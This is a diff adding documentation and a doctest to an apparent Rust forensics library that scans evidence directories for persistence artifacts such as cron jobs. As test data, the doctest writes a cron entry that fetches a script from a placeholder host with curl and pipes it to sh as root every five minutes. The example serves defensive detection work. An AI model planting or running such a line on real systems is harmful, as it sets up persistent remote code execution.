@@ -15,6 +15,25 @@
 //! # let _ = (vol, hive);
 //! # Ok::<(), Box<dyn std::error::Error>>(())
 //! ```
+//!
+//! # Scanning
+//! [`Evidence::scan`] finds every persistence artifact of the families asked for and returns
+//! a [`Report`] of typed records, each with its provenance ([`Source`]) and a one-line
+//! [`Summary`]. Here on a folder laid out like a Linux root (a host directory is evidence too):
+//! ```
+//! let root = std::env::temp_dir().join(format!("foothold-doc-{}", std::process::id()));
+//! std::fs::create_dir_all(root.join("etc/cron.d"))?;
+//! std::fs::create_dir_all(root.join("var/log"))?;
+//! std::fs::write(root.join("etc/cron.d/updater"), "*/5 * * * * root curl -s http://x.invalid | sh\n")?;
+//! let report = foothold::Evidence::open(&root)?.scan(foothold::ScanSet::all());
+//! let job = &report.cron_jobs[0];
+//! assert_eq!((job.job.user.as_deref(), job.source.path.as_str(), job.source.line), (Some("root"), "/etc/cron.d/updater", Some(1)));
+//! let row = report.records().next().unwrap().summary();
+//! assert_eq!((row.label.as_str(), row.schedule.as_str()), ("system_crontab", "*/5 * * * *"));
+//! assert!(report.errors.is_empty());
+//! # std::fs::remove_dir_all(&root)?;
+//! # Ok::<(), Box<dyn std::error::Error>>(())
+//! ```
 #![forbid(unsafe_code)]
 
 mod access;
